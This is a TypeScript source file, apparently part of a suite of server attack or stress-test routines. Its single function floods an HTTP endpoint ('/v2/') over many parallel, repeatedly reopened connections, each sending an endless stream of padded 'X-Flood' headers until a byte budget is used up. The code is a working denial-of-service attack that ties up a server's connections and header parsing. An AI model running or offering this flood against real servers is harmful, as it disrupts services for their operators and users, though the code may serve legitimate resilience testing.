import { once } from 'node:events';
import type { Attack } from '../attack.ts';
import { Answers } from './answers.ts';
import { openConnection } from './connection.ts';
import type { RunningAttack } from './running-attack.ts';

const BEGINNING = 'GET /v2/ HTTP/1.1\r\nHost: x\r\n';
/** As much as a socket takes at a time. */
const HEADERS = `X-Flood: ${'x'.repeat(80)}\r\n`.repeat(Math.floor((64 * 1024) / 91));

/** Sends headers that have no end, over connections that are opened again as they are closed. */
export function floodHeaders(attack: Attack): RunningAttack {
  const answers = new Answers();
  let sent = 0;
  let open = 0;
  const flood = async () => {
    while (sent < attack.bytes) {
      const socket = await openConnection(attack);
      open++;
      answers.watch(socket);
      const closed = once(socket, 'close');
      socket.write(BEGINNING);
      const send = () => {
        while (socket.writable && sent < attack.bytes) {
          sent += HEADERS.length;
          if (!socket.write(HEADERS)) return;
        }
        socket.end();
      };
      socket.on('drain', send);
      send();
      await closed;
      open--;
    }
  };
  void Promise.all(Array.from({ length: attack.count }, flood));
  return { ready: Promise.resolve(), result: () => ({ open, sent, answers: answers.counts }) };
}
